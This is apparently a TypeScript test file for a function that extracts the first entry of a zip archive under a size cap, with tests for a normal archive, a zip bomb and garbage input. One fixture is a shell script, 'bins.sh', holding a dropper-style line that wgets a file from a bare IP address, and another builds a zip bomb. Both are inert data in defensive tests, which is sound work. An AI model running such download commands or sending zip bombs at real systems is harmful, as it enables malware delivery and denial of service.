// Reading the first file of a zip under a cap: a normal archive, a zip bomb, garbage.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { firstZipEntry } from './zip-inner.ts';

async function zipOf(name: string, bytes: Uint8Array): Promise<Uint8Array> {
  const writer = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false, level: 9 });
  await writer.add(name, new Uint8ArrayReader(bytes));
  return writer.close();
}

test('the first file of a zip comes out whole', async () => {
  const payload = new TextEncoder().encode('#!/bin/sh\nwget http://198.51.100.7/x\n');
  assert.deepEqual(await firstZipEntry(await zipOf('bins.sh', payload), 1024), { ok: true, name: 'bins.sh', bytes: payload });
});

test('a zip bomb stops at the cap, counted while inflating', async () => {
  const bomb = await zipOf('zeros', new Uint8Array(64 * 1024 * 1024));
  assert.ok(bomb.length < 200 * 1024);
  const started = Date.now();
  assert.deepEqual(await firstZipEntry(bomb, 1024 * 1024), { ok: false, reason: 'inflates past 1048576 bytes' });
  assert.ok(Date.now() - started < 2000);
});

test('garbage and truncated archives give a reason, never an exception', async () => {
  const good = await zipOf('a', new TextEncoder().encode('hello hello hello'));
  for (const bytes of [new Uint8Array(0), Uint8Array.of(0x50, 0x4b, 3, 4), good.subarray(0, good.length - 10), good.subarray(10)]) {
    const result = await firstZipEntry(bytes, 1024);
    assert.equal(typeof result.ok, 'boolean');
  }
});
